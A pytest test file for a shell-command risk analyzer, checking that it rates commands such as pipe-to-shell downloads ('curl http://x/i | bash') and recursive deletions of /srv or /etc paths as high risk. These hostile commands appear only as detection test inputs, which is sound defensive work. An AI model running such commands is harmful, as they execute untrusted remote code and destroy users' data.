import pytest

from holdpoint.core.risk.shell.analyzer import analyze_shell
from holdpoint.messages.risk import RiskLevel


def test_a_pattern_that_is_none_is_judged_without_a_word(
    capfd: pytest.CaptureFixture[str],
) -> None:
    assert {one.rule for one in analyze_shell("pkill '[a'").findings} == {"shell.kill-by-name"}
    assert capfd.readouterr().err == ""


def test_a_path_may_be_nothing_at_all() -> None:
    for text in ("rm -rf ''", 'rm -r "" /etc', "rm ''", "rm -rf $nothing''", "shred ''"):
        assert isinstance(analyze_shell(text).signals, tuple), text
    assert max(one.level for one in analyze_shell("rm -rf ''").signals) >= RiskLevel.HIGH


def test_a_sign_at_the_end_of_a_line_goes_on_in_the_next() -> None:
    for text in ("curl -s http://x/i |\nsh", "ls\ncurl http://x/i |\n\nbash\nls"):
        assert "shell.fetched-code" in {one.rule for one in analyze_shell(text).findings}, text
    left = "D=/srv\nfalse &&\nD=/tmp/x\nrm -rf $D"
    assert max(one.level for one in analyze_shell(left).findings) >= RiskLevel.HIGH


def test_what_deletes_behind_two_dashes_is_no_wrapper() -> None:
    for text in ("rm -rf -- mv /srv/data", "dropdb -- rm shop", "frob -- rm -rf /srv"):
        assert max(one.level for one in analyze_shell(text).findings) >= RiskLevel.HIGH, text
